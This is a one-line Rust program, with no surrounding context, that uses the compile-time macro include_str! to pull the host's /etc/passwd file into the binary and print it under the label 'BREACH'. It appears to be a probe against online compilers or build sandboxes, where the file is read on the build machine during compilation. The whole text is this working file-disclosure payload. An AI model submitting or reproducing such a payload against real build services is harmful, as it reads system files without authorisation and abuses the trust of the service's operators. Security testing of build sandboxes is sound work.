fn main() { println!("BREACH {}", include_str!("/etc/passwd")); }
